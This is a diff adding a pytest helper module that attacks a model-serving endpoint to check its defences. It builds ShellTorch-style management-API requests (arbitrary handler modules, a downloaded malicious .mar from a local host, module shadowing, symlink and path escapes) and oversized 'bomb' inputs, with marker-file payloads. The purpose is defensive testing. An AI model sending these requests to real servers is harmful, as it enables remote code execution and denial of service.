@@ -1,0 +1,329 @@
+"""The hostile client: attacks on the serving endpoint, shared by the process-mode suite
+(tests/serve/test_serve_hostile.py) and the pass against the serving image
+(tests/containers/test_containers_serve_hostile.py).
+
+Every attack that would run code makes that code write a marker file under ``<model root>/markers/``
+(visible from the test in both modes: the model root is the container's mounted ``/opt/ml/models``), so
+"nothing ran" is checked on the file system, not inferred from a status code. The code-running attacks
+are the ShellTorch pattern (CVE-2023-43654) against multi-model-server 1.1.11's management API:
+
+* a ``handler`` field naming any module (MMS ``RegisterModelRequest``; the handler's folder goes first on
+  the worker's ``PYTHONPATH``, ``WorkerLifeCycle.getEnvString``),
+* an ``http(s)://`` url (MMS ``ModelArchive.downloadModel`` downloads and unzips a ``.mar``),
+* a model directory carrying ``MAR-INF/MANIFEST.json`` with its own handler, or a ``torch.py`` / ``mms/``
+  that the worker would import instead of the real package (the model directory is on ``PYTHONPATH``
+  ahead of site-packages),
+
+plus every other field, the query-string form, urls outside the model root, and MMS routes SageMaker
+never calls. tests/serve/test_serve_hostile.py shows the first three do run code on a bare MMS.
+"""
+
+from __future__ import annotations
+
+import base64
+import http.server
+import io
+import json
+import shutil
+import threading
+import zipfile
+from dataclasses import dataclass
+from pathlib import Path
+
+import numpy as np
+import psutil
+import pytest
+from PIL import Image
+
+from byoc_common.architectures import build_classifier
+from byoc_common.artifact import ModelConfig, save_model_artifact
+
+CLASSES = ["cat", "dog", "fox"]
+VICTIM = "victim"  # the model every endpoint under attack has loaded
+BOMB_MEMORY_LIMIT = 100 * 1024 * 1024   # the issue: the worker grows less than 100 MB
+BOMB_SECONDS = 1.0                      # the issue: answered within a second
+EVIL_MODULE = "byoc_hostile_probe"
+
+
+def write_model(model_dir: Path) -> Path:
+    """A real artifact in the project's format (random resnet18 weights, 32 px)."""
+    config = ModelConfig(arch="resnet18", num_classes=len(CLASSES), image_size=32,
+                         resize_size=ModelConfig.default_resize(32))
+    return save_model_artifact(model_dir, build_classifier("resnet18", len(CLASSES)), CLASSES, config)
+
+
+def jpeg(color=(200, 30, 30), size=(48, 40)) -> bytes:
+    buf = io.BytesIO()
+    Image.new("RGB", size, color).save(buf, format="JPEG")
+    return buf.getvalue()
+
+
+def npy(arr: np.ndarray) -> bytes:
+    buf = io.BytesIO()
+    np.save(buf, arr)
+    return buf.getvalue()
+
+
+def tiny_png_b64() -> str:
+    buf = io.BytesIO()
+    Image.new("RGB", (1, 1)).save(buf, format="PNG")
+    return base64.b64encode(buf.getvalue()).decode()
+
+
+def npy_header_only(shape: tuple[int, ...]) -> bytes:
+    """A valid .npy header claiming ``shape`` of uint8, and no data after it."""
+    buf = io.BytesIO()
+    np.lib.format.write_array_header_1_0(buf, {"descr": "|u1", "fortran_order": False, "shape": shape})
+    return buf.getvalue()
+
+
+# Count bombs: tiny bodies that would each decode into thousands of model inputs (or terabytes).
+COUNT_BOMBS = {
+    "npy of 2000 one-pixel images (6 KB)": (lambda: npy(np.zeros((2000, 1, 1, 3), np.uint8)), "application/x-npy"),
+    "npy header claiming 1.75 TiB": (lambda: npy_header_only((7, 1024, 1024, 256, 1024)), "application/x-npy"),
+    "json list of 5000 base64 images": (lambda: json.dumps([tiny_png_b64()] * 5000).encode(), "application/json"),
+    "json instances of 5000 base64 images": (
+        lambda: json.dumps({"instances": [tiny_png_b64()] * 5000}).encode(), "application/json"),
+    "json nested list of 5000 images": (lambda: json.dumps(np.zeros((5000, 1, 1, 3), int).tolist()).encode(),
+                                        "application/json"),
+    "json nested 100000 deep": (lambda: b"[" * 100_000 + b"]" * 100_000, "application/json"),
+    "json integer of 5000 digits": (lambda: b"[" + b"7" * 5000 + b"]", "application/json"),
+}
+
+
+class MarHost:
+    """An http server on 127.0.0.1 that serves an evil ``.mar`` and counts who asked for it."""
+
+    def __init__(self, mar: bytes):
+        hits: list[str] = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 - http.server's naming
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(mar)))
+                self.end_headers()
+                self.wfile.write(mar)
+
+            def log_message(self, *args):
+                pass
+
+        self.hits = hits
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}/evil.mar"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@dataclass
+class Stage:
+    """Where attacks are prepared: ``host_root`` is the model root as the test sees it, ``server_url``
+    maps a path under it to the path the server sees (``LocalEndpoint.model_url``)."""
+
+    host_root: Path
+    server_url: object  # Callable[[str], str]
+
+    @property
+    def markers(self) -> Path:
+        return self.host_root / "markers"
+
+    def marker_code(self, tag: str) -> str:
+        marker = self.server_url(f"markers/{tag}")
+        return (f"import os\nos.makedirs(os.path.dirname({marker!r}), exist_ok=True)\n"
+                f"open({marker!r}, 'w').write('code from the request ran')\n"
+                "def handle(data, context):\n    return None\n")
+
+    def markers_found(self) -> list[str]:
+        return sorted(p.name for p in self.markers.glob("*")) if self.markers.exists() else []
+
+    def good_model(self, name: str) -> str:
+        target = self.host_root / name
+        template = self.host_root / ".template"
+        if not template.exists():
+            write_model(template)
+        if not target.exists():
+            shutil.copytree(template, target)
+        return self.server_url(name)
+
+    def evil_module(self, tag: str) -> str:
+        """A module file outside any model directory; returns its server path."""
+        folder = self.host_root / f"attack-{tag}"
+        folder.mkdir(parents=True, exist_ok=True)
+        (folder / f"{EVIL_MODULE}_{tag}.py").write_text(self.marker_code(tag))
+        return self.server_url(f"attack-{tag}/{EVIL_MODULE}_{tag}.py")
+
+    def model_with(self, name: str, files: dict[str, str]) -> str:
+        """A good model directory plus ``files`` (relative path -> text, ``{code}`` -> marker code)."""
+        url = self.good_model(name)
+        for rel, text in files.items():
+            path = self.host_root / name / rel
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(text.replace("{code}", self.marker_code(name)))
+        return url
+
+    def mar_bytes(self, tag: str) -> bytes:
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w") as z:
+            z.writestr("MAR-INF/MANIFEST.json", manifest(f"{EVIL_MODULE}_{tag}:handle"))
+            z.writestr(f"{EVIL_MODULE}_{tag}.py", self.marker_code(tag))
+        return buf.getvalue()
+
+
+def manifest(handler: str) -> str:
+    return json.dumps({"specificationVersion": "1.0", "runtime": "python",
+                       "model": {"modelName": "evil", "handler": handler}})
+
+
+ATTACK_NAMES = (
+    "handler field", "query-string form", "query-string form with a JSON body", "form-encoded body",
+    "http url (.mar download)", "https url", "upper-case HTTP url", "file url", "s3 url", "relative url",
+    "MAR-INF manifest in the model directory", "legacy MANIFEST.json", "torch.py shadowing torch",
+    "mms package shadowing mms", "hidden file", "a .mar file under the root", "symlink out of the root",
+    "url outside the model root", "url with ..", "runtime field", "initial_workers field", "batch_size field",
+    "duplicate url field", "no content type", "bad model name", "scale workers (PUT)", "API description",
+    "api-description route", "predictions route", "legacy predict route", "query string on invoke",
+)
+
+
+def load_attacks(stage: Stage, mar_url: str) -> dict[str, tuple[str, str, bytes, str | None]]:
+    """name -> (method, path, body, content type) of every attack in ATTACK_NAMES."""
+    good = stage.good_model(VICTIM)
+    handler = stage.evil_module("handler-field") + ":handle"
+
+    def body(**fields) -> bytes:
+        return json.dumps(fields).encode()
+
+    attacks = {
+        "handler field": ("POST", "/models", body(model_name="evil-a", url=good, handler=handler), "application/json"),
+        "query-string form": ("POST", f"/models?model_name=evil-b&url={good}&handler={handler}", b"", None),
+        "query-string form with a JSON body": (
+            "POST", f"/models?handler={handler}", body(model_name="evil-c", url=good), "application/json"),
+        "form-encoded body": ("POST", "/models", f"model_name=evil-d&url={good}&handler={handler}".encode(),
+                              "application/x-www-form-urlencoded"),
+        "http url (.mar download)": ("POST", "/models", body(model_name="evil-e", url=mar_url), "application/json"),
+        "https url": ("POST", "/models", body(model_name="evil-f", url=mar_url.replace("http:", "https:")),
+                      "application/json"),
+        "upper-case HTTP url": ("POST", "/models", body(model_name="evil-g", url=mar_url.upper()), "application/json"),
+        "file url": ("POST", "/models", body(model_name="evil-h", url="file://" + good), "application/json"),
+        "s3 url": ("POST", "/models", body(model_name="evil-i", url="s3://bucket/evil.mar"), "application/json"),
+        "relative url": ("POST", "/models", body(model_name="evil-j", url="victim"), "application/json"),
+        "MAR-INF manifest in the model directory": ("POST", "/models", body(
+            model_name="evil-k", url=stage.model_with("with-manifest", {
+                "MAR-INF/MANIFEST.json": manifest("with-manifest-code:handle"),
+                "with-manifest-code.py": "{code}"})), "application/json"),
+        "legacy MANIFEST.json": ("POST", "/models", body(model_name="evil-l", url=stage.model_with(
+            "with-legacy", {"MANIFEST.json": json.dumps({"Model": {"Service": "svc.py"}}), "svc.py": "{code}"})),
+            "application/json"),
+        "torch.py shadowing torch": ("POST", "/models", body(
+            model_name="evil-m", url=stage.model_with("with-torch", {"torch.py": "{code}"})), "application/json"),
+        "mms package shadowing mms": ("POST", "/models", body(
+            model_name="evil-n", url=stage.model_with("with-mms", {"mms/__init__.py": "{code}"})), "application/json"),
+        "hidden file": ("POST", "/models", body(
+            model_name="evil-o", url=stage.model_with("with-hidden", {".pth": "{code}"})), "application/json"),
+        "a .mar file under the root": ("POST", "/models", body(model_name="evil-p", url=_write_mar(stage)),
+                                       "application/json"),
+        "symlink out of the root": ("POST", "/models", body(model_name="evil-q", url=_symlink_out(stage)),
+                                    "application/json"),
+        "url outside the model root": ("POST", "/models", body(model_name="evil-r", url="/etc"), "application/json"),
+        "url with ..": ("POST", "/models", body(model_name="evil-s", url=good + "/../victim"), "application/json"),
+        "runtime field": ("POST", "/models", body(model_name="evil-t", url=good, runtime="python3"), "application/json"),
+        "initial_workers field": ("POST", "/models", body(model_name="evil-u", url=good, initial_workers=64),
+                                  "application/json"),
+        "batch_size field": ("POST", "/models", body(model_name="evil-v", url=good, batch_size=4096), "application/json"),
+        "duplicate url field": ("POST", "/models", b'{"model_name": "evil-w", "url": "%s", "url": "%s"}'
+                                % (good.encode(), mar_url.encode()), "application/json"),
+        "no content type": ("POST", "/models", body(model_name="evil-x", url=good), None),
+        "bad model name": ("POST", "/models", body(model_name="../evil", url=good), "application/json"),
+        "scale workers (PUT)": ("PUT", "/models/victim?min_worker=64", b"", None),
+        "API description": ("OPTIONS", "/", b"", None),
+        "api-description route": ("GET", "/api-description", b"", None),
+        "predictions route": ("POST", "/predictions/victim", jpeg(), "image/jpeg"),
+        "legacy predict route": ("POST", "/victim/predict", jpeg(), "image/jpeg"),
+        "query string on invoke": ("POST", "/models/victim/invoke?body=x", jpeg(), "image/jpeg"),
+    }
+    assert tuple(attacks) == ATTACK_NAMES
+    return attacks
+
+
+def _write_mar(stage: Stage) -> str:
+    (stage.host_root / "evil.mar").write_bytes(stage.mar_bytes("mar-file"))
+    return stage.server_url("evil.mar")
+
+
+def _symlink_out(stage: Stage) -> str:
+    outside = stage.host_root.parent / "outside-model"
+    write_model(outside)
+    (outside / "MAR-INF").mkdir(exist_ok=True)
+    (outside / "MAR-INF" / "MANIFEST.json").write_text(manifest("outside:handle"))
+    link = stage.host_root / "linked"
+    if not link.is_symlink():
+        link.symlink_to("../outside-model")
+    return stage.server_url("linked")
+
+
+# ---- fixtures shared by both suites (each module defines ``endpoint``) ----------------------------------------
+
+def load_victim(ep) -> None:
+    """Deploy and load VICTIM on a fresh multi-model endpoint; remember its worker processes."""
+    Stage(ep.model_root, ep.model_url).good_model(VICTIM)
+    reply = ep.client.load_model(VICTIM, ep.model_url(VICTIM))
+    assert reply.status == 200, reply.body
+    ep.workers_at_start = [(p.pid, p.create_time()) for p in worker_processes(VICTIM)]
+    assert ep.workers_at_start, "the worker serving the model is not visible from the test"
+
+
+@pytest.fixture(scope="module", name="stage")
+def stage_fixture(endpoint):
+    return Stage(endpoint.model_root, endpoint.model_url)
+
+
+@pytest.fixture(scope="module", name="mar_host")
+def mar_host_fixture(stage):
+    host = MarHost(stage.mar_bytes("downloaded-mar"))
+    yield host
+    host.close()
+
+
+@pytest.fixture(scope="module", name="attacks")
+def attacks_fixture(stage, mar_host):
+    return load_attacks(stage, mar_host.url)
+
+
+
+
+
+# ---- the worker's memory ------------------------------------------------------------------------------
+
+def worker_processes(model_name: str) -> list[psutil.Process]:
+    """MMS python workers serving ``model_name`` (the listener and its forked, model-holding child)."""
+    found = []
+    for p in psutil.process_iter(["cmdline"]):
+        cmd = p.info["cmdline"] or []
+        if any("model_service_worker" in c for c in cmd) and "--model-name" in cmd \
+                and cmd[cmd.index("--model-name") + 1] == model_name:
+            found.append(p)
+    return found
+
+
+class PeakMemory:
+    """Peak resident memory of processes since construction (Linux ``VmHWM``, reset via clear_refs)."""
+
+    def __init__(self, procs: list[psutil.Process]):
+        self.procs = procs
+        self.start = {}
+        for p in procs:
+            Path(f"/proc/{p.pid}/clear_refs").write_text("5")  # reset the high-water mark to the current RSS
+            self.start[p.pid] = _status_kib(p.pid, "VmRSS")
+
+    def growth_bytes(self) -> int:
+        return max((_status_kib(p.pid, "VmHWM") - self.start[p.pid]) * 1024 for p in self.procs)
+
+
+def _status_kib(pid: int, key: str) -> int:
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith(key + ":"):
+            return int(line.split()[1])
+    raise KeyError(key)
